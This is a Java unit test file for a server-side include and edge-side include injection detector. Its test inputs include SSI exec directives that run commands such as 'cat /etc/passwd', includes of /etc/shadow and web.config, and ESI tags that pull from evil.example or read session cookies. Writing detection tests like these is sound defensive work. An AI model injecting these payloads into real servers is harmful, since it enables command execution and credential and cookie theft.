package dev.bulwark.core.internal.ssi;

import static dev.bulwark.core.internal.rules.Scans.header;
import static dev.bulwark.core.internal.rules.Scans.json;
import static dev.bulwark.core.internal.rules.Scans.mebibyteOf;
import static dev.bulwark.core.internal.rules.Scans.query;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.ScanTarget;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ServerSideIncludeDetectorTest {

    private final ServerSideIncludeDetector detector = new ServerSideIncludeDetector();

    private List<String> standard(ScanTarget target) {
        return Scans.standard(detector, target);
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!--#exec cmd=\"id\"-->", "<!--#exec cgi=\"/cgi-bin/x.cgi\"-->", "<!-- #exec cmd=\"ls\" -->",
        "<!--#EXEC cmd=\"whoami\"-->", "name<!--#exec cmd=\"cat /etc/passwd\" -->"})
    void detectsCommandDirectiveAtBasic(String value) {
        assertThat(Scans.at(Level.BASIC, detector, query(value))).containsExactly("SSI-EXEC");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!--#include virtual=\"/etc/passwd\"-->", "<!--#include file=\"web.config\"-->",
        "<!--#echo var=\"DOCUMENT_NAME\" -->", "<!--#printenv -->", "<!--#config errmsg=\"x\"-->",
        "<!--#set var=\"a\" value=\"b\"-->", "<!--#fsize file=\"index.html\"-->", "<!--#flastmod virtual=\"x\"-->",
        "<!--#if expr=\"$a = b\" -->"})
    void detectsOtherDirectives(String value) {
        assertThat(standard(query(value))).containsExactly("SSI-DIRECTIVE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<esi:include src=\"http://evil.example/\"/>", "<ESI:INCLUDE SRC=http://evil.example>",
        "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<esi:debug/>", "<!--esi <esi:assign name=\"a\" value=\"b\"/> -->",
        "$(HTTP_COOKIE{'JSESSIONID'})", "x $(QUERY_STRING) y"})
    void detectsEdgeSideIncludes(String value) {
        assertThat(standard(query(value))).containsExactly("SSI-ESI-ELEMENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"use <!--#include--> directives carefully", "<!--#echo -->", "<!--#set-->", "<!--#include -->",
        "<!--#config timefmt-->"})
    void ignoresDirectivesNamedWithoutAttributes(String value) {
        assertThat(standard(query(value))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!--#include  virtual = \"/etc/passwd\"-->", "<!--#printenv-->", "<!--#endif-->"})
    void detectsDirectivesWithSpacedAttributesOrNoneNeeded(String value) {
        assertThat(standard(query(value))).containsExactly("SSI-DIRECTIVE");
    }

    @Test
    void detectsDirectiveInHeaderAndPercentEncodedJsonValue() {
        assertThat(standard(header("user-agent", "<!--#include virtual=\"/etc/shadow\"-->"))).containsExactly("SSI-DIRECTIVE");
        assertThat(standard(json("/name", "%3C!--%23exec%20cmd%3D%22id%22--%3E"))).containsExactly("SSI-EXEC");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!-- comment -->", "<!--[if IE]><p>old</p><![endif]-->", "<!-- #region helpers -->",
        "#include <stdio.h>", "echo $(pwd)", "$(document).ready()", "<esi tutorial>", "price $(5)",
        "Use <!-- --> for comments in HTML", "O'Brien <obrien@example.com>", "**bold** and `code`", "report.final.pdf",
        "<!--#-->", "set var x", "$(HOME)/bin"})
    void ignoresOrdinaryText(String value) {
        assertThat(Scans.at(Level.STRICT, detector, query(value))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!--", "<!--#", "<!-- # ", "<esi:", "</esi:", "$(HTTP_", "<", "$(", "<!--esi"})
    void finishesQuicklyOnMebibyteOfPartialSyntax(String unit) {
        ScanTarget target = query(mebibyteOf(unit));
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(target));
    }
}
